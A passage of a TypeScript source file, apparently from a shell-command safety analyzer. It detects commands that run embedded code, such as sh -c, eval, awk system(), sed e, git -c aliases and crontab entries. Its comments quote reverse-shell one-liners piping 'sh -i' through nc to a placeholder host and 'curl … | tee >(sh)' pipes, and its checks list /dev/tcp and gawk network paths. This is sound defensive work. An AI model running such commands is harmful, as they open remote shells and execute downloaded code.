// Carriers: programs that run code given as data (sh -c, eval, find -exec, git -c, awk system() …).
import type { Extraction, Invocation, Redirect, SimpleCommand, Word } from '../types.ts';
import { analyze } from '../index.ts';
import { DECL } from '../parser.ts';
import { BINDERS } from './envcode.ts';
import { getopt, spec } from './options.ts';
import { programSpec } from './specs.ts';
import { execKind, envConfigs, parseGit } from './git.ts';
import { INTERPRETERS, type NormState, type Ops } from './state.ts';
import { staticWord, dynamicWord, sv, invocationFrom, withArgs, withRedirects } from './words.ts';
import { normalizePath } from '../../paths/index.ts';
import { feedingStage, hereInput, stageOutput, staticOutput } from '../printed.ts';
import { printedWith, staticValues } from './values.ts';
import { bindPositional } from './positional.ts';
import { shellQuote } from '../../programs/words.ts';
import { absIn, loadWritten, writtenText } from './written.ts';

export { staticOutput };

/** Shell stdin: here-string, heredoc, `< file`, a pipe, or the terminal. */
export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: NormState, ops: Ops, language?: string): void {
  const carrier = language ? name : `${name} (stdin)`;
  const extra = language ? { language } : undefined;
  if (inv.redirects.some((r) => socket(r.target))) return ops.opaque(inv, carrier, 'network', st, extra);
  for (let i = inv.redirects.length - 1; i >= 0; i--) {
    const r = inv.redirects[i];
    if (r.fd !== null && r.fd !== 0) continue;
    if (r.op === '<<<' || r.op === '<<' || r.op === '<<-') {
      const w = r.op === '<<<' ? r.target : r.heredoc?.word;
      if (!w || !w.static) {
        if (w && ops.networkWord(w, ex)) return ops.opaque(inv, carrier, 'network', st, extra);
        return ops.opaque(inv, carrier, 'dynamic', st, extra);
      }
      if (language) return ops.opaque(inv, carrier, 'language', st, { language, payload: w.value });
      const rest = inv.redirects.filter((x) => x !== r);
      return ops.payload(w.value ?? '', `${name} ${r.op}`, r.span, withRedirects(inv, rest), st, true);
    }
    if (r.op === '<' || r.op === '<>') {
      if (ops.networkWord(r.target, ex) || fedByNetwork(r.target, ex, st, ops)) return ops.opaque(inv, carrier, 'network', st, extra);
      const text = procsubOutput(r.target, ex);
      if (text !== null) {
        if (language) return ops.opaque(inv, carrier, 'language', st, { language, payload: text });
        return ops.payload(text, `${name} < <(…)`, r.span, withRedirects(inv, inv.redirects.filter((x) => x !== r)), st, true);
      }
      // `python3 < x.py` after writing x.py: what the command wrote there runs too
      loadWritten(inv, r.target, language ?? 'sh', ex, st, ops);
      return ops.opaque(inv, carrier, 'stdin', st, extra);
    }
  }
  const sc = inv.source;
  if (sc.pipe && sc.pipe.index > 0) {
    const prev = feedingStage(ex, sc)[0];
    if (ops.networkPipe(sc, ex) || (prev !== undefined && printsNetworkFed(prev, ex, st, ops))) return ops.opaque(inv, carrier, 'network', st, extra);
    const text = prev ? stageOutput(ex, prev) : null;
    if (text !== null) {
      if (language) return ops.opaque(inv, carrier, 'language', st, { language, payload: text });
      return ops.payload(text, `| ${name}`, sc.span, inv, st, true);
    }
    // `echo "$C" | bash` with C given static texts in this source: each printed text runs too
    if (!language) for (const t of prev ? printedWith(prev, (st.values === undefined ? (st.values = staticValues(ex)) : st.values) ?? null) : []) ops.payload(t, `| ${name}`, sc.span, inv, st, true);
    return ops.opaque(inv, carrier, 'stdin', st, extra);
  }
  // `curl … | tee >(sh)`, `curl … > >(sh)`: inside >(…) stdin is what the command around it writes
  ops.opaque(inv, carrier, writtenByNetwork(sc, ex, ops) ? 'network' : 'stdin', st, extra);
}

/** Is `sc` inside a `>(…)` of a command that prints (or passes on) what a network program fetched? */
function writtenByNetwork(sc: SimpleCommand, ex: Extraction, ops: Ops): boolean {
  for (const e of sc.context) {
    if (e.kind !== 'procsub' || ex.source[e.span.start] !== '>') continue;
    for (const c of ex.commands) {
      if (c === sc || c.span.start > e.span.start || c.span.end < e.span.end || c.context.length >= sc.context.length) continue;
      if (ops.networkOutput(c, ex) || ops.networkPipe(c, ex)) return true;
    }
  }
  return false;
}

/** A stage that reads a file a network program writes into (`cat f | sh -i 2>&1 | nc H P > f`). */
function printsNetworkFed(prev: SimpleCommand, ex: Extraction, st: NormState, ops: Ops): boolean {
  for (let i = 1; i < prev.argv.length; i++) if (fedByNetwork(prev.argv[i]!, ex, st, ops)) return true;
  for (const r of prev.redirects) if ((r.op === '<' || r.op === '<>') && (r.fd === null || r.fd === 0) && fedByNetwork(r.target, ex, st, ops)) return true;
  return false;
}

/** A file (a fifo, say) that a network program of the same source writes into, before or after:
 *  `sh -i < f | nc host 9 > f` is a reverse shell. */
function fedByNetwork(w: Word, ex: Extraction, st: NormState, ops: Ops): boolean {
  if (!w.static) return false;
  const target = absIn(st, w.value ?? '');
  for (const c of ex.commands) {
    for (const r of c.redirects) {
      if ((r.op === '>' || r.op === '>>' || r.op === '>|' || r.op === '<>') && (r.fd === null || r.fd === 1) && r.target.static && absIn(st, r.target.value ?? '') === target && ops.networkOutput(c, ex)) return true;
    }
  }
  return false;
}

/** The static text on an invocation's stdin (here-string, heredoc, `< <(…)`, a pipe of known text), or null. */
export function stdinText(inv: Invocation, ex: Extraction, st?: NormState): string | null {
  for (let i = inv.redirects.length - 1; i >= 0; i--) {
    const r = inv.redirects[i]!;
    if (r.fd !== null && r.fd !== 0) continue;
    if (r.op === '<<<' || r.op === '<<' || r.op === '<<-') {
      const w = r.op === '<<<' ? r.target : r.heredoc?.word;
      return w && w.static ? w.value ?? '' : null;
    }
    if (r.op === '<' || r.op === '<>') return procsubOutput(r.target, ex) ?? (st && r.target.static ? writtenText(r.target.value ?? '', ex, st, inv.source.span.start) : null);
  }
  const sc = inv.source;
  if (!sc.pipe || sc.pipe.index === 0) return null;
  const prev = feedingStage(ex, sc)[0];
  return prev ? stageOutput(ex, prev) : null;
}

/** The exact text `<(cmd)` reads as, when cmd is one print-only command with static words. */
export function procsubOutput(w: Word, ex: Extraction): string | null {
  if (w.static || w.approx !== '<(…)') return null;
  const inner = ex.commands.filter((c) => c.context.some((e) => e.kind === 'procsub' && e.span.start >= w.span.start && e.span.end <= w.span.end));
  // (a pure filter of a static here-string too: <(base64 -d <<< …))
  return inner.length === 1 ? stageOutput(ex, inner[0]) : null;
}

function socket(w: Word): boolean {
  const t = w.static ? (w.value ?? '') : w.approx;
  return t.startsWith('/dev/tcp/') || t.startsWith('/dev/udp/');
}

/** `bash --version`, `sh --help`: only info flags, so the shell prints and exits before it reads a command. */
export function shellPrintsInfo(inv: Invocation): boolean {
  let info = false;
  for (const w of inv.args) {
    const v = w.static ? w.value : undefined;
    if (v === '--version' || v === '--help') info = true;
    else if (v !== '--norc' && v !== '--noprofile' && v !== '--posix') return false;
  }
  return info;
}

/** sh/bash/zsh … : -c STRING, a script file, or stdin. */
export function shellCarrier(inv: Invocation, ex: Extraction, st: NormState, ops: Ops): void {
  const name = inv.name;
  let cmdMode = false;
  let stdinMode = false;
  let startup = false;
  let i = 0;
  for (; i < inv.args.length; i++) {
    const w = inv.args[i];
    if (!w.static) {
      if (w.approx.startsWith('-') || w.approx.startsWith('+') || w.approx.startsWith('$')) {
        if (!cmdMode) return ops.opaque(inv, name, 'dynamic', st);
      }
      break;
    }
    const v = w.value ?? '';
    if (v === '--' || v === '-') {
      i++;
      break;
    }
    if (v.length < 2 || (v[0] !== '-' && v[0] !== '+')) break;
    if (v.startsWith('--')) {
      if (v === '--rcfile' || v === '--init-file') i++;
      if (v === '--login' || v === '--interactive') startup = true;
      continue;
    }
    for (let j = 1; j < v.length; j++) {
      const c = v[j];
      if ((c === 'l' || c === 'i') && v[0] === '-') startup = true;
      if (c === 'c') cmdMode = true;
      else if (c === 's') stdinMode = true;
      else if (c === 'o' || c === 'O') i++;
    }
  }
  const first = inv.args[i];
  // A login or interactive shell first runs its startup files (profile, rc files): code the command does not show.
  if (startup) ops.opaque(inv, `${name} startup files`, 'dynamic', st, { payload: 'login or interactive startup files' });
  if (cmdMode) {
    if (!first) return ops.opaque(inv, `${name} -c`, 'dynamic', st);
    if (!first.static) return ops.opaque(inv, `${name} -c`, ops.networkWord(first, ex) ? 'network' : 'dynamic', st, { payload: first.approx });
    return ops.payload(bindPositional(first.value ?? '', inv.args.slice(i + 1)), `${name} -c`, first.span, inv, st);
  }
  if (first && !stdinMode && !stdinFile(first)) {
    const text = procsubOutput(first, ex);
    if (text !== null) return ops.payload(text, `${name} <(…)`, first.span, inv, st, true);
    if (!first.static && ops.networkWord(first, ex)) return ops.opaque(inv, name, 'network', st);
    runWritten(inv, first, ex, st, ops);
    return ops.opaque(inv, 'script', 'dynamic', st, { payload: first.approx });
  }
  shellStdin(inv, name, ex, st, ops);
}

export function evalCarrier(inv: Invocation, ex: Extraction, st: NormState, ops: Ops): void {
  if (!inv.args.length) return void ops.opaque(inv, 'eval', 'dynamic', st);
  const dyn = inv.args.filter((w) => !w.static);
  if (dyn.length) {
    const net = dyn.some((w) => ops.networkWord(w, ex));
    return ops.opaque(inv, 'eval', net ? 'network' : 'dynamic', st, { payload: inv.args.map((w) => w.approx).join(' ') });
  }
  const text = inv.args.map((w) => w.value ?? '').join(' ');
  const read = outerValueInArith(text, ex, st);
  if (read) st.issues.push({ kind: 'parse', message: `eval: arithmetic reads ${read}, whose value this command sets at run time or to a text that may hold code`, span: inv.args[0].span });
  ops.payload(text, 'eval', inv.args[0].span, inv, st);
}

/**
 * eval runs its text in the same shell, so an arithmetic site there (`eval let x`) reads the
 * values the outer command gave its names, which the payload's own analysis never sees. The
 * first name a site reads that the outer command assigns (or binds with read, printf -v …) to
 * anything but a static integer, or null.
 */
function outerValueInArith(text: string, ex: Extraction, st: NormState): string | null {
  const sub = analysedPayload(text, st);
  const read = new Set<string>();
  for (const s of sub.arith ?? []) if (s.safety === 'name' || s.safety === 'expr') for (const n of s.text.match(NAMES) ?? []) read.add(n);
  if (!read.size) return null;
  for (const c of ex.commands) {
    for (const a of c.env) if (read.has(a.name) && !(a.value === null || (a.value.static && INTEGER.test(a.value.value ?? '')))) return a.name;
    const name = c.argv[0]?.static ? c.argv[0].value : undefined;
    if (name === undefined || !(DECL.has(name) || BINDERS.has(name))) continue;
    for (const w of c.argv.slice(1)) {
      const v = w.static ? (w.value ?? '') : w.approx;
      const eq = v.indexOf('=');
      const n = eq >= 0 ? v.slice(0, eq) : v;
      if (read.has(n) && !(eq >= 0 && w.static && INTEGER.test(v.slice(eq + 1)))) return n;
    }
  }
  return null;
}
const NAMES = /[A-Za-z_][A-Za-z0-9_]*/g;
const INTEGER = /^-?[0-9]+$/;

/**
 * A payload's analysis, once per text in a decision (an extraction is never changed by the
 * normaliser, so a text that runs again, per value or per command, is analysed once).
 */
export function analysedPayload(text: string, st: NormState): Extraction {
  const parsed = (st.payload.parsed ??= new Map());
  let sub = parsed.get(text);
  if (sub === undefined) parsed.set(text, (sub = analyze(text, { home: st.home })));
  return sub;
}

/**
 * `… | crontab -`: the table crontab installs. Each entry is five time fields (or an @keyword)
 * and a command line that cron runs later; the text a print-only stage writes (echo, printf, a
 * here-string) is known, the rest (`crontab -l`, the old table) is left as it was.
 */
export function crontabStdin(inv: Invocation, ex: Extraction, st: NormState, ops: Ops): void {
  const texts: string[] = [];
  const h = hereInput(inv.redirects);
  if (h) {
    if (h.word.static) texts.push(h.word.value ?? '');
  } else {
    for (const c of feedingStage(ex, inv.source)) {
      const t = staticOutput(c.argv, c.redirects);
      if (t !== null) texts.push(t);
    }
  }
  for (const line of texts.join('\n').split('\n')) {
    const cmd = cronCommand(line);
    if (cmd !== null) ops.payload(cmd, 'crontab entry', inv.source.span, withRedirects(inv, []), st, false);
  }
}

/** The command of a crontab line (after five time fields or an @keyword), or null. */
function cronCommand(line: string): string | null {
  const t = line.trim();
  if (!t || t.startsWith('#')) return null;
  const first = t.split(' ')[0]!.split('\t')[0]!;
  // NAME=value lines set cron's environment
  if (first.includes('=')) return null;
  let rest = t;
  for (let k = first.startsWith('@') ? 1 : 5; k > 0; k--) {
    let i = 0;
    while (i < rest.length && rest[i] !== ' ' && rest[i] !== '\t') i++;
    if (i === rest.length) return null;
    rest = rest.slice(i).trimStart();
  }
  return rest || null;
}

/** A file name that reads the shell's own stdin. */
export function stdinFile(w: Word | undefined): boolean {
  if (!w || !w.static) return false;
  const v = w.value ?? '';
  return v === '/dev/stdin' || v === '/dev/fd/0' || v === '/proc/self/fd/0' || v === '/proc/thread-self/fd/0';
}

export function sourceCarrier(inv: Invocation, ex: Extraction, st: NormState, ops: Ops): void {
  const f = inv.args[0];
  // source /dev/stdin reads the here-string, heredoc or pipe as code
  if (stdinFile(f)) return shellStdin(withArgs(inv, inv.args.slice(1)), 'source', ex, st, ops);
  const text = f ? procsubOutput(f, ex) : null;
  if (f && text !== null) return ops.payload(text, 'source <(…)', f.span, withArgs(inv, inv.args.slice(1)), st, true);
  const net = !!f && !f.static && ops.networkWord(f, ex);
  if (f) runWritten(withArgs(inv, inv.args.slice(1)), f, ex, st, ops);
  ops.opaque(inv, 'source', net ? 'network' : 'dynamic', st, { payload: f?.approx });
}

/** A shell script written earlier in the source with known text: that text runs too. */
export function runWritten(inv: Invocation, w: Word, ex: Extraction, st: NormState, ops: Ops): void {
  if (!w.static) return;
  const text = writtenText(w.value ?? '', ex, st, inv.source.span.start);
  if (text !== null) ops.payload(text, `script ${w.value} written here`, w.span, withRedirects(inv, []), st, false);
}

/** An interpreter running a script file: opaque (effects settle a download as code from the network). */
/**
 * A code or script file that is a stream, not a file: /dev/stdin (and `-` where the program reads
 * it so) is the command's stdin, `<(…)` the substitution's output. Its text when known, null when
 * it is a stream of unknown text, undefined when the word names an ordinary file.
 */
export function streamText(w: Word, inv: Invocation, ex: Extraction, st: NormState, dash: boolean): string | null | undefined {
  if (stdinFile(w) || (dash && w.static && w.value === '-')) return stdinText(inv, ex, st);
  if (!w.static && w.approx === '<(…)') return procsubOutput(w, ex);
  return undefined;
}

function scriptFile(inv: Invocation, w: Word, ex: Extraction, st: NormState, ops: Ops, language: string): boolean {
  // python3 /dev/stdin <<< CODE: the here-string, heredoc or pipe is the script
  if (stdinFile(w)) {
    shellStdin(inv, inv.name, ex, st, ops, language);
    return true;
  }
  const text = procsubOutput(w, ex);
  if (text) {
    ops.opaque(inv, inv.name, 'language', st, { language, payload: text });
    return true;
  }
  ops.opaque(inv, 'script', 'dynamic', st, { language, payload: w.approx });
  loadWritten(inv, w, language, ex, st, ops);
  return true;
}

/** Short options that take the rest of their word as a value, so a later letter in it is not a code flag. */
const VALUED: Record<string, string> = { perl: 'IMmxFCdDi', ruby: 'rICxEKWiF', python: 'WXQm' };

const INFO_FLAGS = new Set(['--version', '-V', '-VV', '--help', '-h', '-v', '-help', '-version']);

/** python -c, node -e, perl -e … (returns false when the program is not an inline-code call). */
export function interpreterCarrier(inv: Invocation, ex: Extraction, st: NormState, ops: Ops): boolean {
  const it = INTERPRETERS.get(inv.name);
  if (!it) return false;
  const language = it.language;
  for (let i = 0; i < inv.args.length; i++) {
    const w = inv.args[i];
    if (!w.static) {
      if (ops.networkWord(w, ex)) {
        ops.opaque(inv, inv.name, 'network', st, { language });
        return true;
      }
      if (w.approx.startsWith('-')) {
        ops.opaque(inv, inv.name, 'dynamic', st, { language });
        return true;
      }
      return scriptFile(inv, w, ex, st, ops, language);
    }
    const v = w.value ?? '';
    let codeAt = -1;
    let inlineCode: string | null = null;
    if (it.code.includes(v)) codeAt = i + 1;
    else if (v.startsWith('--') && v.includes('=') && it.code.includes(v.slice(0, v.indexOf('=')))) inlineCode = v.slice(v.indexOf('=') + 1);
    else if (it.bundle && v.length > 2 && v[0] === '-' && v[1] !== '-') {
      for (let j = 1; j < v.length; j++) {
        if (VALUED[language]?.includes(v[j])) break; // -rfileutils, -MFile::Path: the rest is that option's value
        if (it.bundle.includes(v[j])) {
          if (j + 1 < v.length && language !== 'python') inlineCode = v.slice(j + 1);
          else if (j + 1 < v.length) inlineCode = v.slice(j + 1);
          else codeAt = i + 1;
          break;
        }
      }
    }
    if (inlineCode !== null) {
      ops.opaque(inv, inv.name, 'language', st, { language, payload: inlineCode });
      return true;
    }
    if (codeAt >= 0) {
      const c = inv.args[codeAt];
      if (!c) ops.opaque(inv, inv.name, 'dynamic', st, { language });
      else if (!c.static) ops.opaque(inv, inv.name, ops.networkWord(c, ex) ? 'network' : 'dynamic', st, { language, payload: c.approx });
      else ops.opaque(inv, inv.name, 'language', st, { language, payload: c.value });
      return true;
    }
    if (v === '-' ) break;
    if (!v.startsWith('-')) {
      if (inv.name === 'deno' || inv.name === 'bun') return false; // subcommands
      return scriptFile(inv, w, ex, st, ops, language);
    }
    if (language === 'python' && (v === '-m' || v === '-W' || v === '-X' || v === '-Q')) {
      if (v === '-m') return false;
      i++;
    }
  }
  // no code and no script: reads the program from stdin (when something feeds it)
  if (inv.args.some((w) => INFO_FLAGS.has(w.value ?? ''))) return false;
  const fed = (inv.source.pipe && inv.source.pipe.index > 0) || inv.redirects.some((r) => (r.fd === null || r.fd === 0) && (r.op === '<' || r.op === '<<' || r.op === '<<-' || r.op === '<<<' || r.op === '<>'));
  if (!fed) return false;
  shellStdin(inv, inv.name, ex, st, ops, language);
  return true;
}

const AWK_SPEC = spec('F|field-separator: v|assign: f|file: e|source: E|exec: i|include: l|load: b|characters-as-bytes c|traditional d|dump-variables:: D|debug:: g|gen-pot h|help L|lint:: M|bignum N|use-lc-numeric n|non-decimal-data o|pretty-print:: O|optimize p|profile:: P|posix r|re-interval s|no-optimize S|sandbox t|lint-old V|version');

/** awk: system("…"), "cmd" | getline, print | "cmd". */
export function awkCarrier(inv: Invocation, st: NormState, ops: Ops, ex: Extraction): void {
  const r = getopt(inv.args, AWK_SPEC, 0);
  // awk -f /dev/stdin <<< PROG, awk -f <(echo PROG): the program is that text
  const streamed = r.options.has('file') ? programText(r.list, 'file', inv, ex, st) : undefined;
  if ((r.options.has('file') && !streamed) || r.options.has('exec') || r.options.has('include') || r.options.has('load')) {
    return ops.opaque(inv, 'awk', 'dynamic', st, { language: 'awk' });
  }
  const srcOpt = r.list.find((o) => o.canon === 'source');
  const progWord = streamed ? streamed.word : srcOpt ? srcOpt.word : r.operands[0];
  if (!progWord) return void st.out.push(inv);
  const prog = streamed ? streamed.text : srcOpt ? (typeof srcOpt.value === 'string' ? srcOpt.value : '') : progWord.static ? (progWord.value ?? '') : null;
  if (prog === null || !progWord.static) return ops.opaque(inv, 'awk', 'dynamic', st, { language: 'awk', payload: progWord.approx });
  const found = awkCommands(prog);
  // gawk's network files (/inet/tcp/…) and a command it does not spell out: what it runs comes from the connection
  if (found === null) return ops.opaque(inv, 'awk', GAWK_NET.some((p) => prog.includes(p)) ? 'network' : 'language', st, { language: 'awk', payload: prog });
  st.out.push(inv);
  for (const c of found) ops.payload(c, 'awk system()', progWord.span, inv, st);
}

const GAWK_NET = ['/inet/tcp/', '/inet/udp/', '/inet4/', '/inet6/'];

/** The program text of `-f` options that all name streams of known text (awk -f /dev/stdin, sed -f <(…)). */
function programText(list: ReturnType<typeof getopt>['list'], canon: string, inv: Invocation, ex: Extraction, st: NormState): { text: string; word: Word } | undefined {
  const texts: string[] = [];
  let word: Word | undefined;
  for (const o of list) {
    if (o.canon !== canon) continue;
    const w = o.word.static && typeof o.value === 'string' ? staticWord(o.value, o.word.span) : o.word;
    const t = streamText(w, inv, ex, st, true);
    if (typeof t !== 'string') return undefined;
    texts.push(t);
    word ??= o.word;
  }
  return word ? { text: texts.join('\n'), word } : undefined;
}

/** Literal commands run by an awk program, or null when one is not a literal. */
export function awkCommands(prog: string): string[] | null {
  const out: string[] = [];
  let i = 0;
  const n = prog.length;
  const readString = (at: number): { text: string; end: number } | null => {
    if (prog[at] !== '"') return null;
    let s = '';
    for (let k = at + 1; k < n; k++) {
      const c = prog[k];
      if (c === '\\' && k + 1 < n) {
        const e = prog[++k];
        s += e === 'n' ? '\n' : e === 't' ? '\t' : e;
        continue;
      }
      if (c === '"') return { text: s, end: k + 1 };
      s += c;
    }
    return null;
  };
  const skipWs = (k: number) => {
    while (k < n && (prog[k] === ' ' || prog[k] === '\t')) k++;
    return k;
  };
  while (i < n) {
    const c = prog[i];
    if (c === '"') {
      const s = readString(i);
      if (!s) return null;
      const k = skipWs(s.end);
      if (prog[k] === '|' && prog[k + 1] !== '|') {
        out.push(s.text);
        i = k + 1;
        continue;
      }
      i = s.end;
      continue;
    }
    if (c === '|') {
      if (prog[i + 1] === '|') {
        i += 2;
        continue;
      }
      const k = skipWs(i + 1 + (prog[i + 1] === '&' ? 1 : 0));
      const s = readString(k);
      if (!s) return null;
      out.push(s.text);
      i = s.end;
      continue;
    }
    if (c === 's' && prog.startsWith('system', i) && (i === 0 || !isIdent(prog.charCodeAt(i - 1)))) {
      let k = skipWs(i + 6);
      if (prog[k] !== '(') {
        i += 6;
        continue;
      }
      k = skipWs(k + 1);
      const s = readString(k);
      if (!s) return null;
      const e = skipWs(s.end);
      if (prog[e] !== ')') return null;
      out.push(s.text);
      i = e + 1;
      continue;
    }
    i++;
  }
  return out;
}

function isIdent(c: number): boolean {
  return c === 95 || (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
}

/** sed: the `e` command and the `s///e` flag run shell commands. */
export function sedRunsCode(script: string, commands?: string[], writes?: string[]): boolean {
  let i = 0;
  const n = script.length;
  while (i < n) {
    // skip separators and whitespace
    while (i < n && (script[i] === ';' || script[i] === '\n' || script[i] === ' ' || script[i] === '\t' || script[i] === '{' || script[i] === '}')) i++;
    if (i >= n) break;
    // address: digits, $, /re/, \cREc, ranges, ~step, !
    for (;;) {
      const c = script[i];
      if (c === undefined) break;
      if ((c >= '0' && c <= '9') || c === '$' || c === ',' || c === '~' || c === '+' || c === '!' || c === ' ') {
        i++;
        continue;
      }
      if (c === '/' || (c === '\\' && i + 1 < n)) {
        const d = c === '/' ? '/' : script[i + 1];
        i += c === '/' ? 1 : 2;
        while (i < n && script[i] !== d) i += script[i] === '\\' ? 2 : 1;
        i++;
        while (script[i] === 'I' || script[i] === 'M') i++;
        continue;
      }
      break;
    }
    const cmd = script[i];
    if (cmd === undefined) break;
    if (cmd === 'e') {
      let k = i + 1;
      while (k < n && (script[k] === ' ' || script[k] === '\t')) k++;
      let e = k;
      while (e < n && script[e] !== '\n' && script[e] !== ';') e++;
      const c = script.slice(k, e).trim();
      if (!c || !commands) return true;
      commands.push(c);
      i = e;
      continue;
    }
    if (cmd === 's' || cmd === 'y') {
      const d = script[i + 1];
      if (d === undefined) return true;
      let k = i + 2;
      for (let part = 0; part < 2; part++) {
        while (k < n && script[k] !== d) k += script[k] === '\\' ? 2 : 1;
        k++;
      }
      while (k < n && script[k] !== ';' && script[k] !== '\n' && script[k] !== '}') {
        if (cmd === 's' && script[k] === 'e') return true;
        if (cmd === 's' && script[k] === 'w') {
          let e = k + 1;
          while (e < n && script[e] !== '\n') e++;
          writes?.push(script.slice(k + 1, e).trim());
          k = e;
          break; // rest of the line is a file name
        }
        k++;
      }
      while (k < n && script[k] !== ';' && script[k] !== '\n') k++;
      i = k;
      continue;
    }
    if (cmd === 'a' || cmd === 'i' || cmd === 'c' || cmd === 'r' || cmd === 'R' || cmd === 'w' || cmd === 'W' || cmd === 'b' || cmd === 't' || cmd === 'T' || cmd === ':') {
      const start = i + 1;
      while (i < n && script[i] !== '\n') i++; // the rest of the line is an argument
      if (cmd === 'w' || cmd === 'W') writes?.push(script.slice(start, i).trim());
      continue;
    }
    i++;
  }
  return false;
}

export function sedCarrier(inv: Invocation, st: NormState, ops: Ops, ex: Extraction): void {
  const r = getopt(inv.args, programSpec('sed'), 0);
  const scripts: Word[] = [];
  for (const o of r.list) if (o.canon === 'expression') scripts.push(o.word.static && typeof o.value === 'string' ? staticWord(o.value, o.word.span) : o.word);
  if (r.options.has('file')) {
    // sed -f /dev/stdin FILE <<< SCRIPT: the script is that text
    const streamed = programText(r.list, 'file', inv, ex, st);
    if (!streamed) return ops.opaque(inv, 'sed', 'dynamic', st, { language: 'sed' });
    scripts.push(staticWord(streamed.text, streamed.word.span));
  }
  if (!scripts.length && r.operands[0]) scripts.push(r.operands[0]);
  const cmds: string[] = [];
  for (const s of scripts) {
    if (!s.static) return ops.opaque(inv, 'sed', 'dynamic', st, { language: 'sed', payload: s.approx });
    if (sedRunsCode(s.value ?? '', cmds)) return ops.opaque(inv, 'sed', 'language', st, { language: 'sed', payload: s.value });
  }
  st.out.push(inv);
  for (const c of cmds) ops.payload(c, 'sed e', scripts[0].span, inv, st);
}

/** git -c key=value, GIT_CONFIG_* env, aliases with `!`. */
export function gitCarrier(inv: Invocation, st: NormState, ops: Ops): void {
  st.out.push(inv);
  const g = parseGit(inv.args);
  // (no -c and no env prefix: no config to open, the common case)
  if (!g.configs.length && !inv.env.length) return;
  const cfgs: { key: string; value: string; dynamic: boolean; span: Word['span'] }[] = g.configs.map((c) => ({ ...c, span: c.word.span }));
  for (const c of envConfigs(inv.env)) cfgs.push({ ...c, span: inv.source.span });
  for (const c of cfgs) {
    // a local clone or fetch runs upload-pack with command-line config cleared (local_repo_env)
    if (c.key.toLowerCase().startsWith('uploadpack.') && g.sub !== 'upload-pack') continue;
    const carrier = `git -c ${c.key}`;
    if (c.dynamic) {
      if (!c.key || execKind(c.key, '!x') || execKind(c.key, 'x')) ops.opaque(inv, carrier, 'dynamic', st, { payload: c.value });
      continue;
    }
    const k = execKind(c.key, c.value);
    if (k === 'shell') ops.payload(c.value, carrier, c.span, inv, st);
    else if (k === 'alias') ops.payload(c.value.slice(1), carrier, c.span, inv, st);
    else if (k === 'opaque') ops.opaque(inv, carrier, 'dynamic', st, { payload: c.value });
    else if (c.key === `alias.${g.sub}` && g.subIndex >= 0) {
      // a plain alias: `git -c alias.nuke='reset --hard' nuke` runs `git reset --hard`
      const rest = inv.args.slice(g.subIndex + 1);
      if (rest.every((w) => w.static)) ops.payload(`git ${c.value} ${rest.map((w) => shellQuote(w.value ?? '')).join(' ')}`, `git alias ${g.sub}`, c.span, inv, st);
      else ops.opaque(inv, `git alias ${g.sub}`, 'dynamic', st, { payload: c.value });
    }
  }
}


/** A program named by an option (rg --pre, sort --compress-program, rsync -e …). */
function programOption(inv: Invocation, value: string | true, word: Word, carrier: string, st: NormState, ops: Ops, shell: boolean, ex?: Extraction): void {
  if (typeof value !== 'string') return;
  const valueWord = word.static && (word.value ?? '').includes('=') ? staticWord(value, word.span) : findValueWord(inv, word) ?? staticWord(value, word.span);
  if (!valueWord.static) return ops.opaque(inv, carrier, 'dynamic', st, { payload: valueWord.approx });
  if (shell) return ops.payload(valueWord.value ?? '', carrier, valueWord.span, inv, st);
  ops.command([valueWord, dynamicWord('$(file)', valueWord.span)], carrier, inv, st, ex);
}

function findValueWord(inv: Invocation, optWord: Word): Word | undefined {
  const i = inv.args.indexOf(optWord);
  if (i < 0) return undefined;
  const v = optWord.value ?? '';
  if (!v.startsWith('--') && v.length > 2) return staticWord(v.slice(2), optWord.span); // -eCMD
  return inv.args[i + 1];
}

const RG_SPEC = spec('pre: hostname-bin: pre-glob: e|regexp: f|file: g|glob: iglob: t|type: T|type-not: type-add: type-clear: A|after-context: B|before-context: C|context: m|max-count: d|max-depth: max-filesize: j|threads: M|max-columns: r|replace: E|encoding: sort: sortr: colors: color: ignore-file: engine: path-separator: field-match-separator: field-context-separator: context-separator: regex-size-limit: dfa-size-limit:');
const SORT_SPEC = spec('compress-program: o|output: k|key: t|field-separator: S|buffer-size: T|temporary-directory: parallel: batch-size: random-source: files0-from: sort:');
const ZIP_SPEC = spec('TT|unzip-command: b: n: t: tt: P|password: Z|compression-method: x: i: O|output-file: sf', {});
const VIM_CODE = ['!', 'system', 'py', 'lua', 'perl', 'ruby', 'term', 'so ', 'source', 'call', 'exe', 'norm'];
const SSH_OPTS = new Set(['proxycommand', 'localcommand', 'knownhostscommand', 'remotecommand']);

/**
 * The shell command lines of ex commands split by `|`: `!CMD`, `r !CMD`, `w !CMD`, `term[inal] CMD`,
 * and `sh[ell]` after `set shell=PROG` (vim runs PROG). Empty when none is certain.
 */
function vimShellLines(text: string): string[] {
  const out: string[] = [];
  let shell: string | null = null;
  for (const part of text.split('|')) {
    let c = part.trim();
    while (c.startsWith(':')) c = c.slice(1).trimStart();
    const sp = c.indexOf(' ');
    const head = sp < 0 ? c : c.slice(0, sp);
    const rest = sp < 0 ? '' : c.slice(sp + 1).trim();
    if (c.startsWith('!')) out.push(c.slice(1));
    else if ((head === 'r' || head === 'read' || head === 'w' || head === 'write') && rest.startsWith('!')) out.push(rest.slice(1));
    else if (('terminal'.startsWith(head) && head.length >= 3) && rest) out.push(rest);
    else if ((head === 'set' || head === 'se') && rest.startsWith('shell=')) shell = rest.slice(6).split(' ')[0]!.split('\\ ').join(' ');
    else if ((head === 'sh' || head === 'shell') && shell !== null) out.push(shell);
  }
  return out;
}

/** The programs optionCarriers opens (each has its branch below). */
export const OPTION_CARRIERS: ReadonlySet<string> = new Set(['rg', 'ripgrep', 'sort', 'tar', 'zip', 'rsync', 'ssh', 'scp', 'sftp', 'vim', 'vi', 'nvim', 'ex', 'view', 'gvim', 'vimdiff', 'mapfile', 'readarray', 'git', 'awk', 'gawk', 'mawk', 'nawk', 'sed', 'gsed']);

export function optionCarriers(inv: Invocation, ex: Extraction, st: NormState, ops: Ops): boolean {
  const name = inv.name;
  if (!OPTION_CARRIERS.has(name)) return false;
  if (name === 'rg' || name === 'ripgrep') {
    st.out.push(inv);
    const r = getopt(inv.args, RG_SPEC, 0);
    for (const o of r.list) if (o.canon === 'pre' || o.canon === 'hostname-bin') programOption(inv, o.value, o.word, `rg --${o.canon}`, st, ops, false);
    return true;
  }
  if (name === 'sort') {
    st.out.push(inv);
    const r = getopt(inv.args, SORT_SPEC, 0);
    for (const o of r.list) if (o.canon === 'compress-program') programOption(inv, o.value, o.word, 'sort --compress-program', st, ops, false);
    return true;
  }
